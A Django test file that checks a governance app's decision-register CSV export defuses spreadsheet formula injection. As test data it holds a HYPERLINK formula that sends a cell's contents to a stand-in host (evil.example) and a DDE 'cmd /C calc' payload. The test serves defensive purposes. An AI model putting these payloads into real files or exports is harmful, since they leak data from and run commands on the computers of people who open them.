"""The decision register's CSV export against formula injection."""

from __future__ import annotations

import csv
import io

from django.test import Client
from django.urls import reverse

from coopgov.bodies.models import Mandate
from coopgov.core.models import Organisation, Person
from coopgov.dossiers import actions
from coopgov.meetings.models import Meeting
from tests.conftest import login
from tests.dossiers.test_views import attend


def test_the_register_csv_defuses_cells_a_spreadsheet_would_run_as_formulas(
    client: Client,
    org: Organisation,
    board_meeting: Meeting,
    directors: list[Mandate],
    secretariat: Person,
) -> None:
    attend(board_meeting, directors[:5])
    title = '=HYPERLINK("http://evil.example/?"&A1,"Budget")'
    dossier = actions.open_dossier(None, organisation=org, title="@SUM(1+1)*cmd|' /C calc'!A0")
    appearance = actions.put_on_agenda(None, dossier=dossier, meeting=board_meeting, stage="decide")
    actions.record_decision(
        None, item=appearance.item, title=title, text="-", method="hands", yes=4, no=1
    )
    login(client, secretariat)
    export = client.get(reverse("dossiers:register", args=[org.code]), {"format": "csv"})
    rows = list(csv.reader(io.StringIO(export.content.decode())))
    assert rows[1][3] == "'" + title
    assert rows[1][8] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[1][5:8] == ["4", "1", "0"]  # numbers stay numbers
